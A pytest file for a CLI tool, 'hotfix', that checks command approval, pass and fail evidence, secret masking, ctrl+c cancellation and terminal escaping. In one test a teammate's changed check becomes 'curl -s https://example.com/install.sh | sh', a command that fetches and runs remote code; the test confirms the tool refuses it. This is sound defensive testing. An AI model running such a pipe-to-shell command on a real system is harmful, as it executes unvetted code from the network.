"""`hotfix trust` and `hotfix run` with real commands in real temporary git repos: a pass
ticks the box with its evidence event, a failure leaves it unticked and says why, an
unapproved or changed command is refused in one line with exit 2, `--all` and `--stale`
pick the right checks, a secret a command prints is masked wherever the run is kept, and
ctrl+c ends the check's whole process group, ticking nothing."""

from __future__ import annotations

import signal
import subprocess
import sys
from pathlib import Path

import git
import pytest

from hotfix_tui.cli import main
from hotfix_tui.core.model.events import CHECK_CANCELLED, CHECK_PASSED, RUN_EVENTS
from hotfix_tui.core.model.evidence import evidence, runs
from tests.checkrepos import alive, checks_repo, config_toml, workspace
from tests.gitrepos import commit

HOTFIX = str(Path(sys.executable).parent / "hotfix")
SESSION = "hotfix-login-crash"
# Each check notes its name in runs.txt when it runs, so a test can tell which ran.
CHECKS = {"tests": "echo '3 passed'; echo tests >> runs.txt",
          "error-scenario": "echo reproducing; echo 'KeyError: user'; echo error-scenario >> runs.txt; "
                            "exit 3"}


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> git.Repo:
    repo = checks_repo(tmp_path / "repo", CHECKS)
    monkeypatch.chdir(repo.working_tree_dir or "")
    return repo


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--as", "Dana", *args])
    out, err = capsys.readouterr()
    return code, out, err


def ran(root: Path) -> list[str]:
    path = root / "runs.txt"
    return path.read_text().split() if path.exists() else []


def saved(root: Path):
    return workspace(root).load(SESSION)


def events_text(root: Path) -> str:
    ws = workspace(root)
    return "".join(p.read_text() for p in sorted(ws.layout.events(ws.session_path(SESSION)).glob("*")))


def test_trust_lists_each_command_and_approves_one_or_all(repo, capsys):
    code, out, _ = run(capsys, "trust")
    assert code == 0
    listed = "automated-tests (check 'tests'): not approved\n    $ echo '3 passed'; echo tests >> runs.txt\n"
    assert listed in out
    assert "application-health (check 'health'): not defined: " in out
    assert run(capsys, "trust", "automated-tests")[0] == 0
    assert "automated-tests (check 'tests'): approved\n" in run(capsys, "trust")[1]
    assert "error-scenario (check 'error-scenario'): not approved\n" in run(capsys, "trust")[1]
    code, out, _ = run(capsys, "trust", "--all")
    assert code == 0 and "error-scenario: approved in this clone:" in out
    assert "not approved" not in run(capsys, "trust")[1]


def test_a_passing_check_streams_its_output_and_ticks_the_box_with_its_evidence(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    run(capsys, "trust", "automated-tests")
    code, out, err = run(capsys, "run", "automated-tests")
    assert (code, out) == (0, "3 passed\n")
    assert err.startswith("automated-tests: passed: exit status 0, ") and "(ticked)" in err
    session = saved(root)
    item = session.checklist.item("automated-tests")
    run_event = evidence(session, item)
    assert session.value(item) is True and run_event is not None
    assert (run_event.event, run_event.by, run_event.exit_status, run_event.excerpt) == (
        CHECK_PASSED, "Dana", 0, "3 passed")
    assert run_event.command == CHECKS["tests"]
    assert "ran Automated Tests (echo '3 passed'; echo tests >> runs.txt): passed: exit status 0" \
        in run(capsys, "log")[1]
    assert ran(root) == ["tests"]


def test_a_failing_check_leaves_the_box_unticked_and_says_why(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    run(capsys, "trust", "--all")
    code, out, err = run(capsys, "run", "error-scenario")
    assert code == 1 and out == "reproducing\nKeyError: user\n"
    assert err.startswith("error-scenario: failed: exit status 3, ")
    assert "(not ticked); last line: 'KeyError: user'; full output: .hotfix/.local/runs/" in err
    session = saved(root)
    assert session.value(session.checklist.item("error-scenario")) is not True
    assert [e.exit_status for e in runs(session, "error-scenario")] == [3]


def test_an_unapproved_command_is_refused_in_one_line_and_nothing_runs(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    code, out, err = run(capsys, "run", "automated-tests")
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and "not approved in this clone" in err
    assert "`hotfix trust automated-tests`" in err
    assert run(capsys, "run", "--all")[0] == 2
    assert ran(root) == []


def test_a_command_changed_after_it_was_trusted_asks_again(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    run(capsys, "trust", "--all")
    changed = {**CHECKS, "tests": "curl -s https://example.com/install.sh | sh"}
    commit(repo, "A teammate changed the check", {".hotfix/config.toml": config_toml(changed)})
    code, _, err = run(capsys, "run", "automated-tests")
    assert code == 2 and err.count("\n") == 1
    assert "its command changed since you approved it: 'curl -s https://example.com/install.sh | sh'" in err
    assert "automated-tests (check 'tests'): changed since approved" in run(capsys, "trust")[1]
    assert ran(root) == []


def test_run_all_takes_the_checks_not_yet_passed_and_stale_those_a_newer_commit_outdated(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    passing = {"tests": "echo tests >> runs.txt", "error-scenario": "echo error-scenario >> runs.txt"}
    commit(repo, "Both checks pass", {".hotfix/config.toml": config_toml(passing)})
    run(capsys, "trust", "--all")
    assert run(capsys, "run", "--stale")[0] == 0  # nothing passed yet, so nothing is stale
    code, _, err = run(capsys, "run", "--all")
    assert code == 0 and ran(root) == ["tests", "error-scenario"]
    assert "hotfix: skipped application-health: " in err and "2 of 2 check(s) passed" in err
    code, _, err = run(capsys, "run", "--all")
    assert code == 0 and err.startswith("hotfix: skipped application-health: ")
    assert err.endswith("\nnothing to run: every check the config defines has passed\n")
    assert run(capsys, "run", "--stale")[1:] == ("", "nothing to run: no passing check is stale\n")
    session = saved(root)
    later = session.state("automated-tests").updated_at.timestamp() + 60
    commit(repo, "Fix the crash properly", {"app.py": "print('fixed')\n"}, when=f"@{int(later)} +0000")
    (root / "runs.txt").unlink()
    assert run(capsys, "run", "--stale")[0] == 0
    assert ran(root) == ["tests", "error-scenario"]


def test_run_takes_one_of_item_all_or_stale(repo, capsys):
    assert run(capsys, "run")[0] == 2
    code, _, err = run(capsys, "run", "automated-tests", "--all")
    assert code == 2 and "give ITEM_ID, --all or --stale" in err


def test_a_secret_a_command_prints_is_masked_in_the_session_the_log_and_the_body(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    token = "ghp_" + "a1B2" * 9
    commit(repo, "A check that prints a token", {".hotfix/config.toml": config_toml(
        {"tests": f"echo 'using token {token}'"})})
    run(capsys, "trust", "automated-tests")
    assert run(capsys, "run", "automated-tests")[0] == 0
    code, body, _ = run(capsys, "export", "--draft", "--pr-body", "-")
    assert code == 0
    kept = {"session": (root / ".hotfix" / f"{SESSION}.toml").read_text(),
            "log": events_text(root), "body": body}
    for where, text in kept.items():
        assert token not in text, where
    assert "using token [masked: a GitHub token]" in body
    assert "using token [masked: a GitHub token]" in kept["log"]


def test_ctrl_c_ends_the_checks_whole_process_group_and_ticks_nothing(repo, capsys):
    root = Path(repo.working_tree_dir or "")
    # The check starts a child that sleeps, notes its pid, says so, and waits for it.
    commit(repo, "A slow check", {".hotfix/config.toml": config_toml(
        {"tests": "sleep 300 & echo $! > child.pid; echo started; wait"})})
    run(capsys, "trust", "automated-tests")
    proc = subprocess.Popen([HOTFIX, "--as", "Dana", "run", "automated-tests"], cwd=root,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline() == "started\n"
    child = int((root / "child.pid").read_text())
    assert alive(child)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert "cancelling" in err and "automated-tests: cancelled" in err
    assert not alive(child)
    session = saved(root)
    assert session.value(session.checklist.item("automated-tests")) is not True
    assert [e.event for e in session.events if e.event in RUN_EVENTS] == [CHECK_CANCELLED]


def test_what_a_check_prints_reaches_the_terminal_escaped(repo, capsys):
    commit(repo, "A check that clears the screen", {".hotfix/config.toml": config_toml(
        {"tests": r"printf 'before\033[2J\033]0;title\007after\n'"})})
    run(capsys, "trust", "automated-tests")
    code, out, _ = run(capsys, "run", "automated-tests")
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    assert out == "before\\x1b[2J\\x1b]0;title\\x07after\n"
